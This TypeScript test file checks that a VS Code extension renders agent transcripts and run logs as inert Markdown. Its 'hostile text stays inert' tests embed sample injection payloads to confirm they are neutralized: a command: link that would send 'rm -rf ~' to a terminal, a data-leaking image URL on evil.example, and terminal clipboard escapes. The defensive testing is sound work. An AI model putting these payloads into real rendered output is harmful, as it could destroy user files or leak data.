// The transcript and run documents the Runs view opens: readable Markdown, never raw JSONL, and no
// content (a result full of backticks, a huge tool output) can break out of its block.
import assert from 'node:assert/strict';
import type { TranscriptEntry } from '../../../src/agent/transcript';
import { fence, runText, transcriptText } from '../../../src/vscode/documents/documentText';

type Entry = TranscriptEntry & { at: number };

const attempt = (n: number, extra: Entry[] = []): Entry[] => [
  {
    type: 'start',
    agentId: 'a1',
    label: 'reader',
    model: 'claude-x',
    attempt: n,
    prompt: 'Read the notes',
    system: 'sys',
    tools: ['Read', 'Bash'],
    at: 0,
  },
  {
    type: 'response',
    turn: 1,
    at: 1,
    message: {
      stop_reason: 'tool_use',
      content: [
        { type: 'text', text: 'Looking.' },
        { type: 'tool_use', id: 't1', name: 'Bash', input: { command: 'cat notes.txt' } },
        { type: 'tool_use', id: 't2', name: 'Read', input: { file_path: 'gone.txt' } },
      ],
    },
  },
  {
    type: 'tool',
    turn: 1,
    id: 't1',
    name: 'Bash',
    input: { command: 'cat notes.txt' },
    result: 'hello notes',
    isError: false,
    ms: 7,
    at: 1,
  },
  {
    type: 'tool',
    turn: 1,
    id: 't2',
    name: 'Read',
    input: { file_path: 'gone.txt' },
    result: 'File does not exist.',
    isError: true,
    ms: 1,
    at: 1,
  },
  {
    type: 'response',
    turn: 2,
    at: 2,
    message: { stop_reason: 'end_turn', content: [{ type: 'text', text: 'The notes say hello.' }] },
  },
  ...extra,
];

describe('documentText', () => {
  it('fences any content with a fence longer than its longest backtick run', () => {
    assert.equal(fence('plain', 'json'), '```json\nplain\n```\n');
    assert.equal(fence('a ```` b'), '`````\na ```` b\n`````\n');
  });

  it('renders a transcript: prompt, each tool call with input and result, errors marked, final output', () => {
    const text = transcriptText({
      label: 'reader',
      agentId: 'a1',
      runId: 'wf_x',
      state: 'done',
      attempts: [attempt(1)],
      result: { value: { ok: true } },
    });
    assert.match(text, /^# `reader`\n/);
    assert.match(text, /### Prompt\n\n```\nRead the notes\n```/);
    assert.match(
      text,
      /#### Tool call: `Bash` · 7 ms\n\n```sh\ncat notes\.txt\n```\n+Result:\n\n```\nhello notes\n```/,
    );
    assert.match(text, /#### Tool call: `Read` · 1 ms · error[\s\S]*Error:\n\n```\nFile does not exist\.\n```/);
    assert.match(text, /## Final output\n\n```json\n\{\n {2}"ok": true\n\}\n```/);
    assert.ok(!text.includes('"type":'), 'no raw JSON lines');
  });

  it('shows every attempt of a retried agent and falls back to the last text while there is no result', () => {
    const text = transcriptText({
      label: 'r',
      agentId: 'a1',
      runId: 'wf_x',
      attempts: [attempt(1, [{ type: 'end', outcome: 'null', detail: 'aborted', at: 3 }]), attempt(2)],
    });
    assert.match(text, /## Attempt 1[\s\S]*\*\*Attempt ended:\*\* null — aborted[\s\S]*## Attempt 2/);
    assert.match(text, /## Final output\n\n```\nThe notes say hello\.\n```/);
  });

  it('marks a tool call whose result never came (the attempt was interrupted)', () => {
    const entries = attempt(1).filter((e) => !(e.type === 'tool' && e.id === 't2'));
    assert.match(
      transcriptText({ label: 'r', agentId: 'a1', runId: 'wf_x', attempts: [entries] }),
      /#### Tool call: `Read` · no result \(interrupted\)/,
    );
  });

  it('renders a run: status, counts, result and the log lines in order', () => {
    const text = runText({
      runId: 'wf_x',
      name: 'demo',
      status: 'completed',
      logs: [{ message: 'first' }, { level: 'warn', message: 'second' }],
      result: { value: 'all good' },
      agents: { total: 2, done: 1, cached: 0, failed: 0, skipped: 1 },
    });
    assert.match(text, /^# `demo` — completed/);
    assert.match(text, /Agents: 2 · 1 done · 0 cached · 0 failed · 1 skipped/);
    assert.match(text, /## Result\n\n```\nall good\n```/);
    assert.match(text, /## Log \(2 lines\)\n\n```log\nfirst\nWARN second\n```/);
  });

  describe('hostile text stays inert', () => {
    const LINK = '[Open](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)';
    const IMAGE = '![x](https://evil.example/pixel.png?leak=1)';
    /** The text outside fenced blocks and code spans, where Markdown would be live. */
    const live = (text: string) =>
      text.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '').replace(/(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '');
    const LIVE_MARKUP = /(?<!\\)\]\(|(?<!\\)!\[|(?<!\\)<[a-z/]|(?<![\\])command:|(?<!\\)https?:/i;

    it('a transcript: model text, thinking, tool names and the label are fenced or escaped', () => {
      const entries: Entry[] = [
        {
          type: 'start',
          agentId: 'a1',
          label: `fix ${LINK}`,
          model: 'm',
          attempt: 1,
          prompt: `do ${IMAGE}`,
          system: 's',
          tools: ['Bash'],
          at: 0,
        },
        {
          type: 'response',
          turn: 1,
          at: 1,
          message: {
            stop_reason: 'end_turn',
            content: [
              { type: 'text', text: `Done. ${LINK}\n${IMAGE}\n<img src=https://evil.example/x.png>\x1b]52;c;eA==\x07` },
              { type: 'thinking', thinking: `plan ${LINK}` },
              { type: 'tool_use', id: 't', name: `Bash${LINK}`, input: { command: 'ls' } },
            ],
          },
        },
        { type: 'end', outcome: 'null', detail: `gave up ${LINK}`, at: 2 },
      ];
      const text = transcriptText({
        label: `fix ${LINK}`,
        agentId: 'a1',
        runId: 'wf_x',
        attempts: [entries],
        error: `boom ${IMAGE}`,
      });
      assert.ok(!LIVE_MARKUP.test(live(text)), live(text));
      assert.ok(
        text.includes(
          '```\nDone. ' + LINK + '\n' + IMAGE + '\n<img src=https://evil.example/x.png>\\x1b]52;c;eA==\\x07\n```',
        ),
        'the model text is fenced, whole, escapes visible',
      );
      assert.ok(!text.includes('\x1b'), 'no raw escape character');
    });

    it('a run document: meta name, description and log lines', () => {
      const text = runText({
        runId: 'wf_x',
        name: `ship ${LINK}`,
        status: 'failed',
        description: `Does ${IMAGE} and <b>html</b> &#x202E;`,
        logs: [{ message: `${LINK}\nWARN forged line` }],
        error: `bad ${LINK}`,
      });
      assert.ok(!LIVE_MARKUP.test(live(text)), live(text));
      assert.ok(!/(?<!\\)&#/.test(live(text)), 'no character reference can decode to a hidden character');
      assert.match(
        text,
        /```log\n\[Open\][^\n]*\n {4}WARN forged line\n```/,
        'a message line break is indented under it',
      );
    });
  });
});
